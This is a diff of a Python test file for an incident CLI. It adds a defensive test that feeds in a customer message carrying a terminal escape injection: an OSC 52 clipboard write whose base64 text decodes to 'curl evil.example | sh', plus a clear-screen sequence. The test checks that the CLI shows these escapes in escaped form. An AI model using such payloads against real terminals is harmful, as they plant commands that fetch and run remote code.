@@ -58,9 +58,9 @@ def customers_write(workdir: Path, texts: list[str], *, batch: str) -> None:
     asyncio.run(write())
 
 
-def spike(workdir: Path) -> int:
-    """12 customers ask whether the site is down: the detector drafts an incident."""
-    customers_write(workdir, [HOSTILE] + ["le site est en panne ?"] * 11, batch="s")
+def spike(workdir: Path, hostile: str = HOSTILE) -> int:
+    """12 customers ask whether the site is down, the last one in `hostile` words: a draft incident."""
+    customers_write(workdir, ["le site est en panne ?"] * 11 + [hostile], batch="s")
 
     async def detect() -> int | None:
         settings = load_settings(workdir / "config.toml")
@@ -91,6 +91,15 @@ def test_list_shows_drafts_and_show_their_notes_as_written(workdir: Path) -> Non
     assert f"broadcaster incident publish {draft_id}" in shown
     (as_json,) = json.loads(invoke("incident", "list", "--json")[1])
     assert as_json["status"] == "draft" and HOSTILE in as_json["notes"]
+
+
+def test_terminal_sequences_in_the_spike_samples_are_shown_never_sent(workdir: Path) -> None:
+    attack = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J le site est en panne ?"  # OSC 52, clear
+    draft_id = spike(workdir, attack)
+    code, shown = invoke("incident", "show", str(draft_id))
+    assert code == 0, shown
+    assert "\x1b" not in shown and "\x07" not in shown
+    assert "\\x1b]52;c;" in shown and "\\x1b[2J" in shown
 
 
 def test_publishing_a_draft_opens_the_incident_and_delivers_its_first_update(workdir: Path) -> None:
